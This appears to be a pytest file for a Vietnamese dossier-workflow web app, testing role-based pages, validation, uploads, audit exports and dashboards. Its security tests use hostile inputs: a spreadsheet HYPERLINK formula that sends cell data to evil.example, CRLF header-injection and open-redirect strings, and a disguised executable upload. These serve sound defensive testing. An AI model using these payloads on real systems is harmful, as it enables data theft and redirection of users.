"""The pages, per role: what each sees, what each may do, and that refusals keep what was typed."""
import csv
from datetime import date, datetime, timezone
import io
import re

import pytest
from openpyxl import load_workbook
from sqlalchemy import select, text

from workflow_app.extensions import db
from workflow_app.models import AuditEntry, Dossier
from workflow_app.units.operations import units_within

from .conftest import TEST_PASSWORD
from .files import PDF

COMMUNE = "29269"


@pytest.fixture
def as_user(client):
    def sign_in(user):
        client.post("/logout")
        response = client.post("/login", data={"username": user.username, "password": TEST_PASSWORD})
        assert response.status_code == 302
        return client

    return sign_in


def page(response) -> str:
    return response.get_data(as_text=True)


def test_dossier_list_shows_only_the_users_scope(people, make_user, make_dossier, as_user):
    mine = make_dossier(COMMUNE, "xa-ntm-19.2", "draft")
    other = make_dossier("29464", "xa-ntm-19.2", "draft")  # in Huyện Trà Cú
    html = page(as_user(people["commune_officer"]).get("/dossiers/"))
    assert f'/dossiers/{mine.id}"' in html and f'/dossiers/{other.id}"' not in html
    html = page(as_user(people["inspector"]).get("/dossiers/"))
    assert f'/dossiers/{mine.id}"' in html and f'/dossiers/{other.id}"' in html


def test_dossier_search_ignores_accents_and_filters(people, make_dossier, as_user):
    cam = make_dossier(COMMUNE, "xa-ntm-19.2", "draft")  # Xã Mỹ Cẩm
    other = make_dossier("29272", "xa-ntm-19.2", "recognized")
    client = as_user(people["pv05_officer"])
    html = page(client.get("/dossiers/?q=my+cam"))
    assert f'/dossiers/{cam.id}"' in html and f'/dossiers/{other.id}"' not in html
    html = page(client.get("/dossiers/?state=recognized"))
    assert f'/dossiers/{other.id}"' in html and f'/dossiers/{cam.id}"' not in html
    assert client.get("/dossiers/?year=abc").status_code == 400  # a bad filter is told, not a crash


def _listed_ids(html: str) -> list[int]:
    rows = html[html.index("<tbody>"):html.index("</tbody>")]
    return [int(n) for n in re.findall(r'<td><a href="/dossiers/(\d+)">\d+</a>', rows)]


@pytest.mark.parametrize("query, expected", [
    ("", ["cam22", "cam23", "cam24", "dai", "hoa", "district"]),
    ("?q=my+cam", ["cam22", "cam23", "cam24"]),
    ("?district=844", ["cam22", "cam23", "cam24", "dai", "district"]),  # Càng Long's own dossier and its communes'
    ("?district={hoa_district}", ["hoa"]),
    ("?criteria_set=xa-dien-hinh-antt", ["dai"]),
    ("?year=2023", ["cam23"]),
    ("?state=recognized", ["cam22", "hoa"]),
    ("?q=my+cam&year=2024&state=draft", ["cam24"]),
    ("?q=khong+co", []),
    ("?q=%25", []), ("?q=_", []), ("?q=%5C", []),  # %, _ and \ typed are those characters, not wildcards
    ("?year=abc&state=recognized", ["cam22", "hoa"]),  # the year is told, the state still filters
])
def test_dossier_list_filters(people, make_dossier, as_user, query, expected):
    made = {"cam22": make_dossier(COMMUNE, "xa-ntm-19.2", "recognized", year=2022),
            "cam23": make_dossier(COMMUNE, "xa-ntm-19.2", "returned", year=2023),
            "cam24": make_dossier(COMMUNE, "xa-ntm-19.2", "draft", year=2024),
            "dai": make_dossier("29272", "xa-dien-hinh-antt", "commune_submitted"),
            "hoa": make_dossier("29311", "xa-ntm-19.2", "recognized"),  # Xã Hòa Ân, Huyện Cầu Kè
            "district": make_dossier("844", "huyen-ntm-9.4", "draft")}
    query = query.format(hoa_district=made["hoa"].unit.parent.code)
    html = page(as_user(people["pv05_officer"]).get(f"/dossiers/{query}"))
    assert sorted(_listed_ids(html)) == sorted(made[name].id for name in expected)
    assert f"{len(expected)} hồ sơ" in html
    assert ("Không có hồ sơ phù hợp." in html) == (not expected)


def test_dossier_list_pages_latest_change_or_due_first(people, make_dossier, as_user, monkeypatch):
    from workflow_app.dossiers import routes

    monkeypatch.setattr(routes, "PER_PAGE", 2)
    made = [make_dossier(code, "xa-ntm-19.2", "district_reviewed") for code in ("29269", "29272", "29275", "29278", "29281")]
    for n, dossier in enumerate(made):  # the oldest change first; due dates the other way round
        dossier.updated_at = datetime(2024, 3, 1 + n, tzinfo=timezone.utc)
        dossier.due_on = date(2024, 4, 10 - n) if n != 2 else None  # no due date: after every dated one
    db.session.commit()
    client = as_user(people["pv05_officer"])
    latest = [_listed_ids(page(client.get(f"/dossiers/?page={n}"))) for n in (1, 2, 3)]
    assert latest == [[made[4].id, made[3].id], [made[2].id, made[1].id], [made[0].id]]
    due = [_listed_ids(page(client.get(f"/dossiers/?sort=due&page={n}"))) for n in (1, 2, 3)]
    assert due == [[made[4].id, made[3].id], [made[1].id, made[0].id], [made[2].id]]
    for n in (1, 3, 4, 10**10, 10**30):  # a full page counts them, the last one knows, one beyond counts them
        response = client.get(f"/dossiers/?page={n}")
        assert response.status_code == 200
        assert "5 hồ sơ" in page(response) and ('href="/dossiers/?page=3"' in page(response) or n > 4)
        assert ("Không có hồ sơ phù hợp." in page(response)) == (n > 3)


def test_open_a_dossier_from_the_form(people, as_user):
    client = as_user(people["commune_officer"])
    assert "xa-ntm-19.2" in page(client.get("/dossiers/new"))
    response = client.post("/dossiers/new", data={"criteria_set": "xa-ntm-19.2", "year": "2024"})
    assert response.status_code == 302
    dossier = db.session.scalars(select(Dossier)).one()
    assert response.headers["Location"] == f"/dossiers/{dossier.id}"


def test_open_form_refusal_is_shown_next_to_the_field(people, as_user):
    client = as_user(people["commune_officer"])
    response = client.post("/dossiers/new", data={"criteria_set": "xa-ntm-19.2", "year": "2026"})
    html = page(response)
    assert response.status_code == 400
    assert "áp dụng cho các năm 2021–2025" in html and 'value="2026"' in html


def test_reviewers_cannot_open_dossiers(people, as_user):
    assert as_user(people["pv05_officer"]).get("/dossiers/new").status_code == 403


@pytest.mark.parametrize("role, visible", [("commune_officer", True), ("district_officer", True), ("pv05_officer", True),
                                           ("inspector", True)])
def test_dossier_page_per_role(people, make_dossier, as_user, role, visible):
    dossier = make_dossier(COMMUNE, "xa-ntm-19.2", "commune_submitted")
    response = as_user(people[role]).get(f"/dossiers/{dossier.id}")
    html = page(response)
    assert response.status_code == 200
    assert "Hàng năm (quý I), Công an xã tham mưu Đảng ủy xã có nghị quyết" in html  # the official text
    assert "stateDiagram-v2" in html and "Xã đã gửi" in html
    assert ('data-trigger="approve"' in html) == (role == "district_officer")
    assert ('id="verdicts-form"' in html) == (role == "district_officer")
    assert 'id="sheet-form"' not in html  # nobody edits a submitted dossier


def test_dossier_outside_scope_is_404(make_user, make_dossier, as_user):
    dossier = make_dossier(COMMUNE, "xa-ntm-19.2", "draft")
    stranger = make_user("commune_officer", "29464")
    assert as_user(stranger).get(f"/dossiers/{dossier.id}").status_code == 404


def test_commune_saves_figures(people, make_dossier, as_user):
    dossier = make_dossier(COMMUNE, "xa-ntm-19.2", "draft")
    client = as_user(people["commune_officer"])
    html = page(client.get(f"/dossiers/{dossier.id}"))
    assert 'id="sheet-form"' in html and 'form="sheet-form"' in html
    response = client.post(f"/dossiers/{dossier.id}/sheet", data={
        "version": dossier.version, "social_order_crimes_prev": "40", "social_order_crimes": "39",
        "attest__I.4": "no", "attest_comment__I.4": "Chưa rà soát hết"})
    assert response.status_code == 302
    db.session.refresh(dossier)
    assert dossier.values["social_order_crimes"] == 39
    html = page(client.get(f"/dossiers/{dossier.id}"))
    assert "40 → 39 (giảm 2,5%), yêu cầu giảm ít nhất 5%" in html
    assert 'data-testid="status-I.4">Chưa đạt' in html


def test_bad_figures_are_refused_next_to_the_field_and_kept(people, make_dossier, as_user):
    dossier = make_dossier(COMMUNE, "xa-ntm-19.2", "draft")
    client = as_user(people["commune_officer"])
    response = client.post(f"/dossiers/{dossier.id}/sheet", data={
        "version": dossier.version, "cadres_disciplined": "-3", "self_managed_models": "hai"})
    html = page(response)
    assert response.status_code == 422
    assert "không được âm" in html and "phải là số nguyên" in html
    assert 'value="-3"' in html and 'value="hai"' in html
    db.session.refresh(dossier)
    assert dossier.values["cadres_disciplined"] == 0


def test_stale_form_is_a_conflict_that_loses_nothing(people, make_dossier, as_user):
    dossier = make_dossier(COMMUNE, "xa-ntm-19.2", "draft")
    client = as_user(people["commune_officer"])
    stale = dossier.version
    client.post(f"/dossiers/{dossier.id}/sheet", data={"version": stale, "innovations": "1", "cadres_disciplined": "1"})
    response = client.post(f"/dossiers/{dossier.id}/sheet", data={"version": stale, "cadres_disciplined": "7"})
    html = page(response)
    assert response.status_code == 409
    assert "Hồ sơ đã được thay đổi trong lúc bạn làm việc" in html
    assert 'value="7"' in html


def test_refused_submit_lists_blockers(people, make_dossier, as_user):
    dossier = make_dossier(COMMUNE, "xa-ntm-19.2", "draft", values={"forum_held": False})
    client = as_user(people["commune_officer"])
    html = page(client.get(f"/dossiers/{dossier.id}"))
    assert 'data-trigger="submit" disabled' in html
    assert 'href="#c-I.8">I.8</a>' in html
    response = client.post(f"/dossiers/{dossier.id}/transitions/submit", data={"version": dossier.version})
    assert response.status_code == 409
    assert 'data-testid="refusal"' in page(response)


def test_district_returns_with_a_comment_the_commune_sees(people, make_dossier, as_user):
    dossier = make_dossier(COMMUNE, "xa-ntm-19.2", "commune_submitted")
    client = as_user(people["district_officer"])
    response = client.post(f"/dossiers/{dossier.id}/verdicts", data={
        "version": dossier.version, "verdict__I.6": "disagree", "verdict_comment__I.6": ""})
    assert response.status_code == 422 and "hãy ghi rõ cần sửa gì" in page(response)
    client.post(f"/dossiers/{dossier.id}/verdicts", data={
        "version": dossier.version, "verdict__I.6": "disagree", "verdict_comment__I.6": "Thiếu quyết định công nhận"})
    db.session.refresh(dossier)
    response = client.post(f"/dossiers/{dossier.id}/transitions/return_to_commune", data={"version": dossier.version, "comment": ""})
    assert response.status_code == 409
    html = page(response)
    assert 'is-invalid" id="t-return_to_commune-comment"' in html  # the comment box is marked
    assert '<div class="invalid-feedback mb-2">Cần nhập nhận xét, lý do</div>' in html  # and says why
    response = client.post(f"/dossiers/{dossier.id}/transitions/return_to_commune",
                           data={"version": dossier.version, "comment": "Bổ sung theo ý kiến tiêu chí I.6"})
    assert response.status_code == 302
    html = page(as_user(people["commune_officer"]).get(f"/dossiers/{dossier.id}"))
    assert "Thiếu quyết định công nhận" in html and "Bổ sung theo ý kiến tiêu chí I.6" in html
    assert 'id="sheet-form"' in html  # returned: the commune may edit again


def test_recognition_form_keeps_typed_values_when_refused(people, make_dossier, as_user):
    dossier = make_dossier(COMMUNE, "xa-ntm-19.2", "pv05_verified")
    client = as_user(people["pv05_officer"])
    response = client.post(f"/dossiers/{dossier.id}/transitions/recognize", data={
        "version": dossier.version, "decision_number": "99/QĐ-CAT", "decision_date": "", "authority": ""})
    html = page(response)
    assert response.status_code == 409
    assert 'value="99/QĐ-CAT"' in html
    assert '<div class="invalid-feedback">Cần nhập ngày quyết định</div>' in html  # beside its field
    response = client.post(f"/dossiers/{dossier.id}/transitions/recognize", data={
        "version": dossier.version, "decision_number": "99/QĐ-CAT", "decision_date": "31/02/2025", "authority": "CAT"})
    assert response.status_code == 422 and 'value="31/02/2025"' in page(response)


def test_evidence_upload_download_and_removal(people, make_dossier, as_user, app):
    dossier = make_dossier(COMMUNE, "xa-ntm-19.2", "draft")
    client = as_user(people["commune_officer"])
    response = client.post(f"/dossiers/{dossier.id}/evidence", data={
        "version": dossier.version, "document_type": "ke_hoach_nam_tinh_hinh", "issued_on": "10/02/2024",
        "criterion": "I.2", "file": (io.BytesIO(PDF), "Kế hoạch 12.pdf")}, content_type="multipart/form-data")
    assert response.status_code == 302
    row = next(e for e in dossier.evidence if e.filename == "Kế hoạch 12.pdf")
    download = as_user(people["inspector"]).get(f"/dossiers/{dossier.id}/evidence/{row.id}")
    assert download.status_code == 200 and download.data == PDF
    assert download.headers["Content-Disposition"].startswith("attachment")
    client = as_user(people["commune_officer"])
    db.session.refresh(dossier)
    bad = client.post(f"/dossiers/{dossier.id}/evidence", data={
        "version": dossier.version, "document_type": "ke_hoach_nam_tinh_hinh", "issued_on": "10/02/2024",
        "criterion": "I.2", "file": (io.BytesIO(b"MZ\x90\x00"), "virus.pdf")}, content_type="multipart/form-data")
    assert bad.status_code == 422 and "PDF, JPEG, PNG, DOCX, XLSX, ODT" in page(bad)
    removed = client.post(f"/dossiers/{dossier.id}/evidence/{row.id}/remove", data={"version": dossier.version})
    assert removed.status_code == 302
    assert client.get(f"/dossiers/{dossier.id}/evidence/{row.id}").status_code == 404


def test_upload_over_the_limit_is_refused_cleanly(people, make_dossier, as_user, app):
    app.config["MAX_CONTENT_LENGTH"] = 2048
    dossier = make_dossier(COMMUNE, "xa-ntm-19.2", "draft")
    client = as_user(people["commune_officer"])
    response = client.post(f"/dossiers/{dossier.id}/evidence", data={
        "version": dossier.version, "document_type": "ke_hoach_nam_tinh_hinh",
        "file": (io.BytesIO(PDF + b"0" * 4096), "lon.pdf")}, content_type="multipart/form-data")
    assert response.status_code == 413 and "Tệp quá lớn" in page(response)


@pytest.mark.parametrize("role, waiting, sent", [
    ("commune_officer", ["draft", "returned"], ["commune_submitted", "district_reviewed"]),
    ("district_officer", ["commune_submitted"], ["district_reviewed"]),
    ("pv05_officer", ["district_reviewed"], []),
])
def test_inbox_shows_what_waits_for_each_role(people, make_dossier, as_user, role, waiting, sent):
    made = {state: make_dossier(COMMUNE, "xa-ntm-19.2", state, year=year)
            for year, state in enumerate(("draft", "returned", "commune_submitted", "district_reviewed"), start=2021)}
    html = page(as_user(people[role]).get("/"))
    waiting_html, _sep, sent_html = html.partition('data-testid="sent"')
    for state, dossier in made.items():
        link = f"/dossiers/{dossier.id}\""
        assert (link in waiting_html) == (state in waiting), state
        assert (link in sent_html) == (state in sent), state


def test_a_long_inbox_shows_the_first_and_counts_all(people, make_dossier, as_user, monkeypatch):
    from workflow_app.main import routes

    monkeypatch.setattr(routes, "INBOX_ROWS", 2)
    made = [make_dossier(COMMUNE, "xa-ntm-19.2", "commune_submitted", year=year) for year in (2021, 2022, 2023)]
    client = as_user(people["district_officer"])
    html = page(client.get("/"))
    waiting = html[html.index('data-testid="waiting"'):html.index('data-testid="sent"')]
    shown = [d.id for d in made if f"/dossiers/{d.id}\"" in waiting]
    assert len(shown) == 2 and "Đang chờ bạn xử lý (3)" in html
    assert "Đang hiện 2 hồ sơ đến hạn sớm nhất trong tổng số 3." in re.sub(r"\s+", " ", waiting)
    everything = page(client.get("/?all=1"))
    waiting = everything[everything.index('data-testid="waiting"'):everything.index('data-testid="sent"')]
    assert all(f"/dossiers/{d.id}\"" in waiting for d in made) and 'data-testid="waiting-more"' not in everything


def test_audit_page_filters_exports_and_verifies(people, make_dossier, as_user):
    dossier = make_dossier(COMMUNE, "xa-ntm-19.2", "draft")
    client = as_user(people["commune_officer"])
    client.post(f"/dossiers/{dossier.id}/transitions/submit", data={"version": dossier.version})
    assert client.get("/audit/").status_code == 403
    client = as_user(people["inspector"])
    html = page(client.get("/audit/?action=submit"))
    assert "Gửi hồ sơ" in html and "Dự thảo → Xã đã gửi" in html
    assert "Tạo người dùng" not in html.split('data-testid="audit-table"')[1]
    exported = client.get("/audit/export.csv?action=submit")
    assert exported.data.startswith("\ufeff".encode())
    rows = list(csv.reader(io.StringIO(exported.get_data(as_text=True).lstrip("\ufeff"))))
    assert rows[0][:3] == ["Số thứ tự", "Thời gian", "Người thực hiện"] and len(rows) == 2 and rows[1][8] == "Gửi hồ sơ"
    sheet = load_workbook(io.BytesIO(client.get("/audit/export.xlsx?action=submit").data)).active
    assert sheet["A1"].value == "Nhật ký kiểm tra" and sheet["A2"].value == "Điều kiện lọc: Thao tác: Gửi hồ sơ"
    assert sheet.freeze_panes == "A6" and [c.value for c in sheet[5]][:3] == ["Số thứ tự", "Thời gian", "Người thực hiện"]
    assert sheet.max_row == 5 + 1 and sheet.cell(6, 9).value == "Gửi hồ sơ"
    everything = load_workbook(io.BytesIO(client.get("/audit/export.xlsx").data)).active
    assert everything.max_row == 5 + db.session.query(AuditEntry).count()
    assert "Nhật ký toàn vẹn" in page(client.get("/audit/verify"))


def test_audit_verify_page_names_a_tampered_entry(people, as_user):
    if db.engine.dialect.name == "postgresql":
        db.session.execute(text("ALTER TABLE audit_entry DISABLE TRIGGER USER"))
        db.session.execute(text("UPDATE audit_entry SET comment = 'sửa' WHERE seq = 2"))
        db.session.execute(text("ALTER TABLE audit_entry ENABLE TRIGGER USER"))
    else:
        db.session.execute(text("DROP TRIGGER audit_entry_no_update"))
        db.session.execute(text("UPDATE audit_entry SET comment = 'sửa' WHERE seq = 2"))
    db.session.commit()
    html = page(as_user(people["inspector"]).get("/audit/verify"))
    assert "bản ghi số 2 không khớp" in html


def test_dashboard(people, make_dossier, as_user):
    make_dossier(COMMUNE, "xa-ntm-19.2", "recognized", year=2024)
    client = as_user(people["pv05_officer"])
    html = page(client.get("/reports/dashboard?year=2024"))
    assert "Huyện Càng Long" in html and 'data-testid="chart"' in html
    assert re.search(r"1/13<br>", html)  # one of Càng Long's 13 xã recognized
    sheet = load_workbook(io.BytesIO(client.get("/reports/dashboard.xlsx?year=2024").data)).active
    assert sheet["A1"].value == "Tổng hợp toàn tỉnh: Tỉnh Trà Vinh" and sheet["A2"].value == "Năm 2024"
    assert sheet["A1"].font.bold and sheet.freeze_panes == "A5"  # the header row (4) stays in view
    headers = [c.value for c in sheet[4]]
    assert headers[0] == "Huyện" and "Xã nông thôn mới — chỉ tiêu 19.2: đã công nhận" in headers  # names, not codes
    assert not any("xa-ntm" in str(h) for h in headers)
    assert sheet.max_row == 4 + 9 + 1  # the 9 districts and the whole province
    total = [c.value for c in sheet[sheet.max_row]]
    assert total[0] == "Toàn tỉnh" and sheet.cell(sheet.max_row, 1).font.bold
    column = headers.index("Xã nông thôn mới — chỉ tiêu 19.2: đã công nhận") + 1
    assert total[column - 1] == 1 and sheet.column_dimensions["A"].width == 26
    assert as_user(people["commune_officer"]).get("/reports/dashboard").status_code == 403


def test_english_dossier_page(people, make_dossier, as_user):
    dossier = make_dossier(COMMUNE, "xa-ntm-19.2", "draft", values={"social_order_crimes": 39, "social_order_crimes_prev": 40})
    client = as_user(people["commune_officer"])
    client.get("/lang/en")
    html = page(client.get(f"/dossiers/{dossier.id}"))
    assert "Crimes against social order: 40 → 39 (down 2.5%)" in html and "What you can do now" in html
    assert "Hàng năm (quý I), Công an xã" in html  # the official text stays in Vietnamese


def test_dashboard_columns_come_from_the_sets_in_force(people, as_user, tmp_path, monkeypatch):
    """A 2026–2030 set counts on the overview of its years; the 2021–2025 sets leave it."""
    import json
    import shutil

    import criteria
    from criteria.loader import SETS_DIR

    for path in SETS_DIR.glob("*.json"):
        shutil.copy(path, tmp_path)
    data = json.loads((SETS_DIR / "xa-ntm-19.2.json").read_text(encoding="utf-8"))
    data.update(code="xa-ntm-2026", version="2026.1", issued_on="2026-01-15", years={"from": 2026, "to": 2030},
                name={"vi": "Xã nông thôn mới giai đoạn 2026–2030", "en": "New rural commune 2026–2030"})
    (tmp_path / "xa-ntm-2026.json").write_text(json.dumps(data, ensure_ascii=False), encoding="utf-8")
    monkeypatch.setattr(criteria, "default_registry", lambda: criteria.load_directory(tmp_path))
    client = as_user(people["pv05_officer"])
    html = page(client.get("/reports/dashboard?year=2027"))
    assert "Xã nông thôn mới giai đoạn 2026–2030" in html
    assert "Xã NTM (19.2)" not in html and "III.2" not in html
    html = page(client.get("/reports/dashboard?year=2024"))
    assert "Xã NTM (19.2)" in html and "Huyện NTM (9.4): tiêu chí III.2" in html
    shown = re.sub(r"<[^>]+>", " ", html)  # what the reader sees (links may carry codes)
    assert "giai đoạn 2026–2030" not in shown and "xa-ntm-19.2" not in shown  # names, not codes


INJECTED = ['=HYPERLINK("http://evil.example/?x="&A1,"Bấm vào đây")', "+1+1", "-2+3", "@SUM(A1:A2)", "\t=1+1",
            "\r=1+1"]


def test_exports_keep_typed_text_as_text(people, make_dossier, as_user):
    """A comment that looks like a formula reaches the inspector's CSV and Excel files as text."""
    from workflow_app.dossiers import operations as ops
    from workflow_app.transaction import unit_of_work

    dossier = make_dossier(COMMUNE, "xa-ntm-19.2", "commune_submitted")
    for text_ in INJECTED:
        with unit_of_work():
            ops.add_comment(people["district_officer"], dossier, text_)
    client = as_user(people["inspector"])
    rows = list(csv.reader(io.StringIO(client.get("/audit/export.csv").data.decode("utf-8-sig"))))
    comments = {row[12] for row in rows[1:]}
    for text_ in INJECTED:
        assert "'" + text_.strip() in comments  # written with a leading apostrophe, never as a formula
    book = load_workbook(io.BytesIO(client.get("/audit/export.xlsx").data))
    cells = [row[12] for row in book.active.iter_rows(min_row=2)]
    for text_ in INJECTED:
        cell = next(c for c in cells if c.value == text_.strip())
        assert cell.data_type == "s"


@pytest.mark.parametrize("raw", ["²", "--5", "٣", "9" * 5000, "1e3"])
def test_odd_counts_are_refused_at_the_field(people, make_dossier, as_user, raw):
    dossier = make_dossier(COMMUNE, "xa-ntm-19.2", "draft")
    response = as_user(people["commune_officer"]).post(
        f"/dossiers/{dossier.id}/sheet", data={"version": dossier.version, "cadres_disciplined": raw})
    assert response.status_code == 422
    assert "phải là số nguyên" in page(response)


@pytest.mark.parametrize("path", ["/dossiers/99999999999999999999", "/dossiers/2147483648",
                                  "/dossiers/1/evidence/18446744073709551616", "/admin/users/99999999999999999999"])
def test_ids_beyond_the_database_are_not_found(people, as_user, path):
    assert as_user(people["admin"]).get(path).status_code == 404


@pytest.mark.parametrize("target", ["/%0d%0aSet-Cookie:x=1", "/%0ax", "/\\\\evil.example", "//evil.example"])
def test_language_switch_follows_only_safe_local_addresses(client, target):
    response = client.get(f"/lang/vi?next={target}")
    assert response.status_code == 302 and response.headers["Location"] in ("/", "http://localhost/")


def test_nothing_a_signed_in_user_reads_is_cached(people, make_dossier, as_user, app):
    import io as _io

    from workflow_app.dossiers import operations as ops
    from workflow_app.transaction import unit_of_work

    dossier = make_dossier(COMMUNE, "xa-ntm-19.2", "draft")
    with unit_of_work():
        row = ops.add_evidence(people["commune_officer"], dossier, _io.BytesIO(PDF), "qd.pdf",
                               document_type="ke_hoach_nam_tinh_hinh", issued_on="2024-02-10")
    client = as_user(people["commune_officer"])
    for path in ("/", f"/dossiers/{dossier.id}", f"/dossiers/{dossier.id}/evidence/{row.id}", "/login"):
        assert client.get(path).headers["Cache-Control"] == "no-store", path
    inspector = as_user(people["inspector"])
    for path in ("/audit/export.csv", "/audit/export.xlsx", "/reports/dashboard.xlsx?year=2024"):
        assert inspector.get(path).headers["Cache-Control"] == "no-store", path
    assert client.get("/static/favicon.svg").headers.get("Cache-Control") != "no-store"


def _returned_with_a_dispute(people, make_dossier):
    from workflow_app.dossiers import operations as ops
    from workflow_app.transaction import unit_of_work

    dossier = make_dossier(COMMUNE, "xa-ntm-19.2", "commune_submitted",
                           values={"social_order_crimes_prev": 40, "social_order_crimes": 38})
    district = people["district_officer"]
    with unit_of_work():
        ops.record_verdict(district, dossier, "I.5", agree=False, comment="Số vụ năm trước chưa khớp báo cáo")
        ops.fire_transition(district, dossier, "return_to_commune", comment="Đề nghị rà soát lại số liệu tội phạm")
    return dossier


def test_a_returned_dossier_says_why_at_the_top(people, make_dossier, as_user):
    dossier = _returned_with_a_dispute(people, make_dossier)
    html = page(as_user(people["commune_officer"]).get(f"/dossiers/{dossier.id}"))
    notice = html[html.index('data-testid="return-notice"'):html.index('data-testid="diagram"')]
    assert "Hồ sơ đã bị trả lại" in notice and "Đề nghị rà soát lại số liệu tội phạm" in notice
    assert 'href="#c-I.5"' in notice and "Số vụ năm trước chưa khớp báo cáo" in notice
    assert "Chưa có thay đổi nào kể từ khi bị trả lại." in notice
    assert 'data-testid="disputed-I.5"' in html  # the criterion itself is marked, not a green "Đạt" alone
    sections = html[html.index('data-testid="sections"'):html.index('id="criteria"')]
    assert "7/8" in sections  # the disputed I.5 is not counted as done
    folded = page(as_user(people["commune_officer"]).get(f"/dossiers/{dossier.id}?hide_met=1"))
    assert 'id="c-I.5"' in folded and 'id="c-I.4"' not in folded


def test_an_unchanged_resubmission_asks_for_confirmation(people, make_dossier, as_user):
    dossier = _returned_with_a_dispute(people, make_dossier)
    client = as_user(people["commune_officer"])
    response = client.post(f"/dossiers/{dossier.id}/transitions/submit", data={"version": dossier.version})
    assert response.status_code == 422
    assert "Hồ sơ chưa có gì thay đổi kể từ khi bị trả lại" in page(response)
    db.session.refresh(dossier)
    assert dossier.state == "returned"
    response = client.post(f"/dossiers/{dossier.id}/transitions/submit",
                           data={"version": dossier.version, "confirm_unchanged": "y"})
    assert response.status_code == 302
    db.session.refresh(dossier)
    assert dossier.state == "commune_submitted"


def test_the_reviewer_sees_what_changed_since_the_return(people, make_dossier, as_user):
    dossier = _returned_with_a_dispute(people, make_dossier)
    commune = as_user(people["commune_officer"])
    commune.post(f"/dossiers/{dossier.id}/sheet", data={"version": dossier.version, "social_order_crimes_prev": "42"})
    db.session.refresh(dossier)
    assert commune.post(f"/dossiers/{dossier.id}/transitions/submit", data={"version": dossier.version}).status_code == 302
    html = page(as_user(people["district_officer"]).get(f"/dossiers/{dossier.id}"))
    changes = html[html.index('data-testid="changes-since-return"'):]
    assert "Hồ sơ được gửi lại sau khi bị trả lại" in html
    assert "Số vụ phạm tội về trật tự xã hội — năm trước: 40 → 42" in changes


def test_the_main_move_comes_first_and_the_risky_ones_ask(people, make_dossier, as_user):
    draft = make_dossier(COMMUNE, "xa-ntm-19.2", "draft")
    html = page(as_user(people["commune_officer"]).get(f"/dossiers/{draft.id}"))
    actions = html[html.index('id="actions"'):]
    assert actions.index('data-trigger="submit"') < actions.index('data-trigger="withdraw"')
    assert "Gửi tới: Công an Huyện Càng Long" in actions
    submit = re.search(r'<button[^>]*data-trigger="submit"[^>]*>', actions).group(0)
    withdraw = re.search(r'<button[^>]*data-trigger="withdraw"[^>]*>', actions).group(0)
    assert "btn-primary" in submit and "Công an Huyện Càng Long?" in submit and "tiêu chí đạt" in submit
    assert "btn-outline-danger" in withdraw and "bạn chắc chắn chứ?" in withdraw
    submitted = make_dossier("29272", "xa-ntm-19.2", "commune_submitted")
    html = page(as_user(people["district_officer"]).get(f"/dossiers/{submitted.id}"))
    actions = html[html.index('id="actions"'):]
    assert actions.index('data-trigger="approve"') < actions.index('data-trigger="return_to_commune"')
    assert "btn-outline-warning" in re.search(r'<button[^>]*data-trigger="return_to_commune"[^>]*>', actions).group(0)


def test_agree_with_all_the_others_in_one_click(people, make_dossier, as_user):
    dossier = make_dossier(COMMUNE, "xa-dien-hinh-antt", "commune_submitted")
    client = as_user(people["district_officer"])
    response = client.post(f"/dossiers/{dossier.id}/verdicts", data={
        "version": dossier.version, "agree_rest": "y",
        "verdict__TC12": "disagree", "verdict_comment__TC12": "Thiếu hồ sơ quản lý 2 cơ sở"})
    assert response.status_code == 302
    db.session.expire_all()
    verdicts = {v.criterion: v.agree for v in db.session.get(Dossier, dossier.id).verdicts if v.level == "district"}
    assert len(verdicts) == 34 and verdicts["TC12"] is False and sum(verdicts.values()) == 33


def test_a_disagreement_without_a_comment_names_its_criterion(people, make_dossier, as_user):
    dossier = make_dossier(COMMUNE, "xa-dien-hinh-antt", "commune_submitted")
    response = as_user(people["district_officer"]).post(f"/dossiers/{dossier.id}/verdicts", data={
        "version": dossier.version, "verdict__TC21": "disagree"})
    html = page(response)
    assert response.status_code == 422 and "TC21: Khi không đồng ý" in html


def test_the_audit_trail_says_what_was_decided(people, make_dossier, as_user):
    from workflow_app.clock import today_in_vietnam
    from workflow_app.dossiers import operations as ops
    from workflow_app.transaction import unit_of_work

    dossier = _returned_with_a_dispute(people, make_dossier)  # a disagreement on I.5, then a return
    commune = people["commune_officer"]
    with unit_of_work():
        ops.update_data(commune, dossier, {"social_order_crimes_prev": 42})
    document = next(e for e in dossier.evidence if e.document_type == "nghi_quyet_dang_uy")
    with unit_of_work():
        ops.update_evidence(commune, dossier, document, document_type="ke_hoach_ubnd", issued_on=None)
    verified = make_dossier("29272", "xa-ntm-19.2", "pv05_verified")
    with unit_of_work():
        ops.fire_transition(people["pv05_officer"], verified, "recognize", decision_number="15/QĐ-CAT",
                            decision_date=today_in_vietnam(), authority="Công an tỉnh Trà Vinh")
    client = as_user(people["inspector"])
    html = page(client.get("/audit/"))
    assert "I.5: không đồng ý (Công an huyện)" in html
    assert "Số vụ phạm tội về trật tự xã hội — năm trước: 40 → 42" in html
    assert ("Loại văn bản: Nghị quyết của Đảng ủy về công tác bảo đảm ANTT → Kế hoạch/chương trình của UBND về "
            "công tác bảo đảm ANTT; Ngày ban hành: " in html)
    assert "quyết định số 15/QĐ-CAT ngày" in html and "Công an tỉnh Trà Vinh" in html
    rows = list(csv.reader(io.StringIO(client.get("/audit/export.csv").data.decode("utf-8-sig"))))
    assert rows[0][9] == "Nội dung"
    decided = {row[9] for row in rows[1:]}
    assert "I.5: không đồng ý (Công an huyện)" in decided and any("15/QĐ-CAT" in d for d in decided)


def test_the_trail_is_checked_against_a_kept_checkpoint(people, as_user):
    from workflow_app.audit import trail

    seq, seal, _at = trail.head()
    client = as_user(people["inspector"])
    assert "Khớp với mốc kiểm tra bạn đã lưu." in page(client.get(f"/audit/verify?checkpoint={seq}:{seal}"))
    assert "bản ghi số" in page(client.get(f"/audit/verify?checkpoint={seq}:{'f' * 64}"))
    response = client.get("/audit/verify?checkpoint=linh-tinh")
    assert response.status_code == 400 and "Mốc kiểm tra có dạng SỐ:MÃ" in page(response)


def test_the_overview_leads_to_each_district_and_totals_the_province(people, make_dossier, as_user):
    make_dossier(COMMUNE, "xa-ntm-19.2", "recognized", year=2024)
    make_dossier("844", "huyen-ntm-9.4", "draft", year=2024)
    make_dossier("29311", "xa-ntm-19.2", "draft", year=2024)  # Xã Hòa Ân, Huyện Cầu Kè
    client = as_user(people["pv05_officer"])
    html = page(client.get("/reports/dashboard?year=2024"))
    total = html[html.index('data-testid="province-total"'):]
    assert "Toàn tỉnh" in total and "1/" in total
    cards = html[html.index('data-testid="dashboard-cards"'):html.index('data-testid="dashboard-table"')]  # the phone's view
